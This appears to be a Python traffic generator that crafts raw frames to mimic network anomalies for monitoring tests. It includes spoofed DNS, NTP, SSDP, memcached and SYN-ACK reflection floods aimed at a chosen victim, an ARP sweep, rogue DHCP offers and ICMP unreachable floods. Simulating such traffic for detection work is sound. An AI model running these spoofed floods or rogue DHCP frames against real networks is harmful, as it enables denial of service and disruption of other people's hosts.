"""Raw frames: frames.py switch SECONDS (STP, LLDP and gratuitous ARP of a healthy network)
frames.py reflect dns|ntp|ssdp|memcached|synack VICTIM SECONDS (answers without a query, from many addresses)
frames.py arpscan SECONDS | offer SECONDS (a second DHCP server answers) | unreachable VICTIM SECONDS (ICMP errors)"""
import os
import random
import socket
import struct
import sys
import time

INTERFACE = "eth0"
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((INTERFACE, 0))
MAC = sock.getsockname()[4]
with open("/proc/self/net/arp", encoding="ascii") as table:
    NEIGHBORS = {f[0]: bytes.fromhex(f[3].replace(":", "")) for f in (line.split() for line in table) if f[0][0].isdigit()}


def checksum(data):
    data += b"\0" * (len(data) & 1)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ipv4(source, target, protocol, body, to=None):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.getrandbits(16), 0x4000, random.randint(48, 60), protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return (to or NEIGHBORS.get(target) or next(iter(NEIGHBORS.values()), b"\xff" * 6)) + MAC + b"\x08\x00" + head + body


def udp(source, sport, target, dport, data, to=None):
    return ipv4(source, target, 17, struct.pack(">HHHH", sport, dport, 8 + len(data), 0) + data, to)


def arp(op, mac, ip, target, wanted):
    return b"\xff" * 6 + MAC + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, op, mac, socket.inet_aton(ip), target, socket.inet_aton(wanted))


def reflected(kind, victim, reflector):
    port = random.randint(1024, 65535)
    if kind == "dns":
        name = b"\x05large\x07example\0"
        data = struct.pack(">HHHHHH", random.getrandbits(16), 0x8180, 1, 10, 0, 0) + name + struct.pack(">HH", 255, 1) + os.urandom(random.randint(700, 1300))
        return udp(reflector, 53, victim, port, data)
    if kind == "ntp":
        return udp(reflector, 123, victim, port, b"\xd7\x00\x03\x2a" + struct.pack(">HH", 6, 72) + os.urandom(432))
    if kind == "ssdp":
        return udp(reflector, 1900, victim, port, b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:x\r\nSERVER: Linux UPnP/1.0\r\nLOCATION: http://10.0.0.1/r.xml\r\n\r\n")
    if kind == "memcached":
        return udp(reflector, 11211, victim, port, struct.pack(">HHHH", 0, random.randint(0, 9), 10, 0) + os.urandom(1380))
    body = struct.pack(">HHIIBBHHH", random.choice([80, 443, 22]), port, random.getrandbits(32), random.getrandbits(32), 0x50, 0x12, 29200, 0, 0)
    pseudo = socket.inet_aton(reflector) + socket.inet_aton(victim) + struct.pack(">BBH", 0, 6, len(body))
    body = body[:16] + struct.pack(">H", checksum(pseudo + body)) + body[18:]
    return ipv4(reflector, victim, 6, body)


def switch(number):
    if number % 2 == 0:
        bpdu = b"\x42\x42\x03" + struct.pack(">HBBB8sI8sHHHHH", 0, 0, 0, 0, b"\x80\x00" + MAC, 0, b"\x80\x00" + MAC, 0x8001, 0, 20 << 8, 2 << 8, 15 << 8)
        yield b"\x01\x80\xc2\x00\x00\x00" + MAC + struct.pack(">H", len(bpdu)) + bpdu
    if number % 30 == 1:
        parts = ((1, b"\x04" + MAC), (2, b"\x05port7"), (3, struct.pack(">H", 120)), (5, b"switch1"), (0, b""))
        yield b"\x01\x80\xc2\x00\x00\x0e" + MAC + b"\x88\xcc" + b"".join(struct.pack(">H", kind << 9 | len(v)) + v for kind, v in parts)
    if number % 20 == 5:
        yield arp(1, MAC, "192.168.60.41", b"\0" * 6, "192.168.60.41")


def offer():
    client = bytes([2]) + os.urandom(5)
    head = struct.pack(">BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, random.getrandbits(32), 0, 0x8000, b"\0" * 4, socket.inet_aton(f"192.168.60.{random.randint(150, 199)}"),
                       socket.inet_aton("192.168.60.66"), b"\0" * 4, client, b"", b"")
    options = b"\x63\x82\x53\x63\x35\x01" + random.choice([b"\x02", b"\x05"]) + b"\x36\x04" + socket.inet_aton("192.168.60.66") + b"\x03\x04" + socket.inet_aton("192.168.60.66") + b"\x06\x04" + socket.inet_aton("192.168.60.66") + b"\xff"
    return udp("192.168.60.66", 67, "255.255.255.255", 68, head + options, b"\xff" * 6)


kind, seconds = sys.argv[1], float(sys.argv[-1])
end, number = time.monotonic() + seconds, 0
reflectors = [f"198.{random.choice([18, 19])}.{random.randint(1, 254)}.{random.randint(1, 254)}" for _ in range(200)]
while time.monotonic() < end:
    if kind == "switch":
        for frame in switch(number):
            sock.send(frame)
        time.sleep(1)
    elif kind == "reflect":
        sock.send(reflected(sys.argv[2], sys.argv[3], random.choice(reflectors)))
        time.sleep(0.0008)
    elif kind == "arpscan":
        sock.send(arp(1, MAC, "192.168.60.66", b"\0" * 6, f"192.168.60.{number % 254 + 1}"))
        time.sleep(0.02)
    elif kind == "offer":
        sock.send(offer())
        time.sleep(random.uniform(0.3, 1.2))
    elif kind == "unreachable":
        inner = ipv4(sys.argv[2], random.choice(reflectors), 17, struct.pack(">HHHH", random.randint(1024, 65535), 53, 40, 0))[14:]
        body = struct.pack(">BBHI", 3, random.choice([1, 3]), 0, 0) + inner
        sock.send(ipv4(random.choice(reflectors), sys.argv[2], 1, body[:2] + struct.pack(">H", checksum(body)) + body[4:]))
        time.sleep(0.001)
    number += 1
